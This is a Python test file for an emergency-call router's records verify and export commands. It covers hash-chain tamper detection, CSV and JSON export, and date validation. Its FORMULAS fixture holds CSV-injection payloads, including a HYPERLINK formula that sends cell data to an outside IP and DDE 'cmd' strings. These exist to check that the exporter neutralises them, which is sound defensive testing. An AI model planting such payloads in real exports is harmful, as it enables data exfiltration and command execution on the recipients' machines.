"""`e911-router records verify|export` as an operator runs them, on a SQLite store."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from router.records.model import pidf_sha256
from router.store.store import open_store
from tests.observe.keyed import KEY_TEXT, keyed
from tests.observe.samples import CALLBACK, PIDF, record

REPO = Path(__file__).resolve().parents[2]


@pytest.fixture
def records_db(tmp_path: Path) -> str:
    """A store with three records (the second carries a PIDF-LO)."""
    url = f"sqlite:///{tmp_path}/e911.db"
    store = open_store(url)
    try:
        records = keyed(store)
        records.append(record(1))
        records.append(record(2, pidf_lo=PIDF, pidf_sha256=pidf_sha256(PIDF)))
        records.append(record(3, call_class="emergency_test", outcome="routed_test"))
    finally:
        store.close()
    return url


def e911_router(url: str, *args: str) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("E911_")}
    env.update({"E911_DATABASE_URL": url, "E911_LOG_FORMAT": "json",
                "E911_RECORDS_KEY": KEY_TEXT})
    return subprocess.run([sys.executable, "-m", "router", *args], cwd=REPO, env=env,
                          capture_output=True, text=True, timeout=60)


def test_verify_says_intact_and_exits_0(records_db: str) -> None:
    """An untouched chain: exit 0, the count and the head hash."""
    result = e911_router(records_db, "records", "verify")
    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()
    assert lines[0] == "chain intact: 3 records, last seq 3"
    assert lines[1].startswith("head hash: ") and len(lines[1]) == len("head hash: ") + 64


def test_verify_names_the_record_changed_with_sql_and_exits_1(records_db: str) -> None:
    """The trigger dropped and record 2's dial string changed by SQL: exit 1, record 2 named."""
    store = open_store(records_db, migrate=False)
    try:
        with store.engine.begin() as conn:
            conn.exec_driver_sql("DROP TRIGGER call_records_no_update")
            conn.exec_driver_sql("UPDATE call_records SET dialed = '933' WHERE seq = 2")
    finally:
        store.close()
    result = e911_router(records_db, "records", "verify")
    assert result.returncode == 1
    assert result.stdout.splitlines()[0] == (
        f"chain BROKEN at record 2 ({record(2).id}): its content does not match its hash "
        "(a column was changed)")


def test_export_csv_has_one_row_per_record_in_the_window(records_db: str) -> None:
    """--from/--to select by INVITE time; the CSV keeps callback number and PIDF-LO hash."""
    result = e911_router(records_db, "records", "export", "--from", "2026-03-01T12:00:02",
                         "--to", "2026-03-01T12:00:03.5", "--format", "csv")
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [(r["seq"], r["id"]) for r in rows] == [("2", record(2).id), ("3", record(3).id)]
    assert rows[0]["callback_number"] == CALLBACK
    assert rows[0]["pidf_sha256"] == pidf_sha256(PIDF)
    assert rows[0]["pidf_lo"] == PIDF
    assert rows[0]["trunks_tried"] == "sip:127.0.0.1:5071 200"
    assert (rows[0]["retain_until"], rows[0]["chain_version"]) == (
        "2033-02-27T12:00:02.123456Z", "2")


def test_export_json_carries_the_chain_verdict(records_db: str, tmp_path: Path) -> None:
    """The JSON export has every record and says whether the whole chain was intact."""
    out = tmp_path / "audit.json"
    result = e911_router(records_db, "records", "export", "--format", "json", "--output",
                         str(out))
    assert result.returncode == 0, result.stderr
    document = json.loads(out.read_text())
    assert document["chain"]["intact"] is True
    assert (document["chain"]["head_seq"], document["chain"]["keyed"],
            document["chain"]["legacy"]) == (3, 3, 0)
    assert [r["seq"] for r in document["records"]] == [1, 2, 3]
    assert document["records"][2]["call_class"] == "emergency_test"


def test_export_refuses_an_empty_window_and_a_bad_date(records_db: str) -> None:
    """Exit 2 with one line saying what is wrong."""
    backwards = e911_router(records_db, "records", "export", "--from", "2026-03-02",
                            "--to", "2026-03-01")
    assert backwards.returncode == 2
    assert backwards.stderr.strip() == "error: --from must be before --to"
    garbage = e911_router(records_db, "records", "export", "--from", "yesterday")
    assert garbage.returncode == 2
    assert "expected a date (2026-03-01) or an ISO 8601 time" in garbage.stderr


FORMULAS = {
    "dialed": '=HYPERLINK("http://203.0.113.9/x?"&A1,"911")',
    "sip_user": "@SUM(1+1)*cmd|' /C calc'!A0",
    "sip_call_id": "-2+3+cmd|' /C calc'!A0",
    "trunk_used": "+1+1",
    "location_id": "\tadr_tab",
    "call_ref": "'quoted already",
}


def test_export_csv_neutralises_formula_cells_and_keeps_them_readable(tmp_path: Path) -> None:
    """Caller-controlled cells starting with = + - @ TAB (OWASP CSV injection) get one leading
    single quote, as does a cell already starting with one; plain numbers such as an E.164
    callback number stay as they are; the JSON export keeps the raw values (issue 13,
    finding 12)."""
    url = f"sqlite:///{tmp_path}/e911.db"
    store = open_store(url)
    try:
        keyed(store).append(record(1, **FORMULAS))
    finally:
        store.close()
    result = e911_router(url, "records", "export", "--format", "csv")
    assert result.returncode == 0, result.stderr
    (row,) = list(csv.DictReader(io.StringIO(result.stdout)))
    for column, value in FORMULAS.items():
        assert row[column] == "'" + value, column
    assert row["callback_number"] == CALLBACK
    assert row["final_status"] == "200"
    assert row["seq"] == "1"
    assert row["trunks_tried"] == "sip:127.0.0.1:5071 200"
    as_json = e911_router(url, "records", "export", "--format", "json")
    (raw,) = json.loads(as_json.stdout)["records"]
    assert {column: raw[column] for column in FORMULAS} == FORMULAS
